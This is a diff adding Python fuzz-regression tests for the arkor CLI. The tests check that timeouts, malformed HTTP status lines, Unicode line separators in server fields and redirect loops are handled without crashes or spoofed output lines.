-        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the body stalls for 30 s
+        # Reading the body would stall until ARKOR_HTTP_TIMEOUT: the command would then fail.
+        code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="2")
+        self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))
 
     def test_lone_surrogate_in_state(self) -> None:
         callback = arkor_cli._Callback("expected")
@@ -4300,6 +6877,11 @@ class FuzzRegressionTest(OAuthCase):
         self.assertEqual(arkor_cli._split_target("http://[/callback?code=c"), ("/callback", "?", "code=c"))
         self.assertEqual(arkor_cli._split_target("http://127.0.0.1:1/callback?a=b#f"), ("/callback", "?", "a=b"))
         proc, url, _ = self.start_login()
+        assert proc.stdout is not None
+        # Read here, not left to finish(): it may sit in the pipe's text buffer already.
+        self.assertEqual(
+            proc.stdout.readline(), "No browser was opened. Open the URL above in a browser on any device.\n"
+        )
         port = self.ports[0]
         with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
             s.sendall(b"GET http://[/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
@@ -4307,6 +6889,65 @@ class FuzzRegressionTest(OAuthCase):
         status, _, _ = browse(url)
         self.assertEqual(status, 200)
         self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
+
+    def test_a_status_line_that_is_not_http_is_quoted_on_one_line(self) -> None:
+        # Found by the fuzz (http-reply, http-framing): http.client's
+        # BadStatusLine carries the line with its CR LF, and the error quoted
+        # it raw, two characters the terminal then showed as \u000d\u000a.
+        from fake_cloud import RawServer
+
+        self.sign_in_anon()
+        for status_line in (b"ICY 200 OK", b"HTTP/1.1 abc OK"):
+            with self.subTest(status_line=status_line):
+
+                def behaviour(conn: socket.socket, stop: Any, line: bytes = status_line) -> None:
+                    conn.sendall(line + b"\r\nContent-Length: 2\r\n\r\n{}")
+
+                with RawServer(behaviour) as server:
+                    code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
+                self.assertEqual(
+                    (code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {status_line.decode()}\n")
+                )
+
+    def test_line_separators_in_a_server_field_stay_in_their_line(self) -> None:
+        # Found by the fuzz (printer): whoami split the user's JSON with
+        # str.splitlines(), which also breaks at U+2028, U+2029 and U+0085
+        # (json.dumps leaves them raw with ensure_ascii=False): a server field
+        # could start a line of its own, and the JSON printed was broken.
+        self.sign_in_anon()
+        user = {"id": "u1", "name": "Ada\u2028Orgs: forged\u0085x\u2029y\x1cz"}
+        self.cloud.add_token("anon-token-stored", user=user, orgs=[{"slug": "a\u2028b"}])
+        code, out, err = self.run_main("whoami")
+        self.assertEqual(
+            (code, out, err),
+            (
+                0,
+                '{\n  "id": "u1",\n  "name": "Ada\\u2028Orgs: forged\\u0085x\\u2029y\\u001cz"\n}\nOrgs: a\\u2028b\n',
+                "",
+            ),
+        )
+        self.assertEqual(json.loads(out.rpartition("Orgs:")[0]), user)
+
+    def test_a_redirect_loop_is_the_answer(self) -> None:
+        # Found reading the fuzz's outcomes (http-reply): urllib ends a loop
+        # with an HTTPError whose body arkor had already closed (so as never
+        # to read a redirect's body), and reading it gave "Unexpected answer
+        # ...: I/O operation on closed file". The last 3xx is the answer, as
+        # for any redirect that is not followed.
+        self.sign_in_anon()
+        serial = iter(range(1000))
+        for name, location in (
+            ("the same URL", lambda: "/v1/me"),
+            ("a new URL each time", lambda: f"/v1/me?n={next(serial)}"),
+        ):
+            with self.subTest(name):
+                self.cloud.requests.clear()
+                self.cloud.script(
+                    "GET", "/v1/me", lambda seen, at=location: Answer(302, body=b"moved", headers={"Location": at()})
+                )
+                code, out, err = self.run_main("whoami")
+                self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
+                self.assertLessEqual(len(self.cloud.requests), 11)  # urllib's own bound on redirects
 
 
 class SecurityClaimsTest(unittest.TestCase):
